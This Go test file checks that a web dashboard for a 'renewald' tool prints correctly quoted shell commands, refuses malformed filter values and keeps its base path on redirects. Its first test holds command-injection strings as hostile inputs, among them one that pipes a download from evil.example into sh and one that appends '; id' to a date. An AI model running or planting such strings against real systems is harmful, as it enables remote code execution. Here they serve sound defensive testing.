package web

import (
	"fmt"
	"html"
	"net/url"
	"os/exec"
	"regexp"
	"strings"
	"testing"
)

var cliRe = regexp.MustCompile(`<code>(renewald [^<]*)</code>`)

// shellArgv runs a printed command through /bin/sh with renewald replaced by printf '%s\n' and
// returns the arguments the shell passed, one a line.
func shellArgv(t *testing.T, command string) []string {
	t.Helper()
	rest, ok := strings.CutPrefix(command, "renewald ")
	if !ok {
		t.Fatalf("not a renewald command: %q", command)
	}
	cmd := exec.Command("/bin/sh", "-c", `printf '%s\n' `+rest)
	cmd.Dir = t.TempDir() // should the quoting fail, whatever the shell does happens there
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("sh -c %q: %v", command, err)
	}
	return strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
}

// TestPrintedCommandsAreQuoted: the commands the outbox list and the timeline print run, pasted
// into a POSIX shell, exactly one renewald command with the filter's values as its arguments; a
// filter value that cannot be a partner id or a date is refused.
func TestPrintedCommandsAreQuoted(t *testing.T) {
	f := newFixture(t)
	s := f.server(t, nil)
	// Printable, no space: a partner id the importer accepts, full of shell syntax.
	partner := `x;curl$(id)|sh'#` + "`id`&>y*"
	for _, tc := range []struct {
		path string
		want []string
	}{
		{"/outbox?status=failed&due_from=2026-01-01&due_to=2026-12-31&partner=" + url.QueryEscape(partner),
			[]string{"outbox", "list", "--status", "failed", "--partner", partner, "--due-from", "2026-01-01", "--due-to", "2026-12-31"}},
		{"/renewals?from=2026-04-01&to=2026-07-31&partner=" + url.QueryEscape(partner),
			[]string{"schedule", "--from", "2026-04-01", "--to", "2026-07-31", "--partner", partner, "--json"}},
	} {
		res, body := get(t, s, "GET", tc.path)
		if res.StatusCode != 200 {
			t.Errorf("%s: %d", tc.path, res.StatusCode)
			continue
		}
		m := cliRe.FindStringSubmatch(body)
		if m == nil {
			t.Errorf("%s: no command shown", tc.path)
			continue
		}
		got := shellArgv(t, html.UnescapeString(m[1]))
		if fmt.Sprintf("%q", got) != fmt.Sprintf("%q", tc.want) {
			t.Errorf("%s: the shown command %q runs renewald with %q, want %q", tc.path, html.UnescapeString(m[1]), got, tc.want)
		}
	}
	// The commands of the overview and a row page: ids only, and each runs one command.
	for _, p := range []string{"/", fmt.Sprintf("/outbox/%d", f.failed)} {
		_, body := get(t, s, "GET", p)
		ms := cliRe.FindAllStringSubmatch(body, -1)
		if len(ms) == 0 {
			t.Errorf("%s: no command", p)
		}
		for _, m := range ms {
			if argv := shellArgv(t, html.UnescapeString(m[1])); len(argv) < 2 || len(argv) > 3 {
				t.Errorf("%s: %q runs %q", p, m[1], argv)
			}
		}
	}
	// Values that cannot be partner ids or dates are refused, as other bad filters are.
	for _, q := range []string{
		"partner=" + url.QueryEscape("x; curl -s http://evil.example/p|sh #"),
		"partner=" + url.QueryEscape("a\nb"),
		"partner=" + url.QueryEscape("a\x00b"),
		"partner=" + url.QueryEscape("a/b"),
		"partner=" + url.QueryEscape(`a\b`),
		"partner=" + url.QueryEscape("a\u202eb"),
		"partner=..",
		"partner=" + strings.Repeat("x", 65),
		"due_from=2026-13-01",
		"due_to=" + url.QueryEscape("2026-01-01; id"),
	} {
		for _, page := range []string{"/outbox?", "/renewals?"} {
			if page == "/renewals?" {
				q = strings.NewReplacer("due_from", "from", "due_to", "to").Replace(q)
			}
			if res, body := get(t, s, "GET", page+q); res.StatusCode != 400 || cliRe.MatchString(body) {
				t.Errorf("%s%s: %d", page, q, res.StatusCode)
			}
		}
	}
	if res, _ := get(t, s, "GET", "/outbox?partner="+strings.Repeat("x", 64)); res.StatusCode != 200 {
		t.Errorf("a 64-character partner id: %d", res.StatusCode)
	}
}

// TestRedirectsKeepBasePath: the paths the server cleans redirect under the base path.
func TestRedirectsKeepBasePath(t *testing.T) {
	f := newFixture(t)
	s := f.server(t, func(o *Options) { o.BasePath = "/renewald" })
	for _, p := range []string{"/renewald//outbox", "/renewald/./outbox", "/renewald/static/../outbox", "/renewald/outbox/../outbox?status=failed"} {
		res, _ := get(t, s, "GET", p)
		loc := res.Header.Get("Location")
		want := "/renewald/outbox"
		if strings.Contains(p, "?") {
			want += "?status=failed"
		}
		if res.StatusCode != 301 || loc != want {
			t.Errorf("%s: %d Location %q, want 301 to %q", p, res.StatusCode, loc, want)
		}
	}
	// Without a base path, the same clean paths.
	s = f.server(t, nil)
	for _, p := range []string{"//outbox", "/./outbox", "/static/../outbox"} {
		if res, _ := get(t, s, "GET", p); res.StatusCode != 301 || res.Header.Get("Location") != "/outbox" {
			t.Errorf("%s: %d Location %q", p, res.StatusCode, res.Header.Get("Location"))
		}
	}
}
